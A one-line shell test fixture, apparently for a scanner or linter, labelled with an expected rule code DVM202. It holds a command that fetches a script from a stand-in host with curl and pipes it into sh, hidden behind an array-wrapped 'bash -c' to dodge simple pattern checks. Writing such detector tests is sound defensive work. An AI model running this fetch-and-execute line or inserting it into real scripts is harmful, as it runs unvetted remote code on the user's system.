# expect: DVM202
a=(bash -c); "${a[@]}" 'curl https://x.example.org/a | sh'
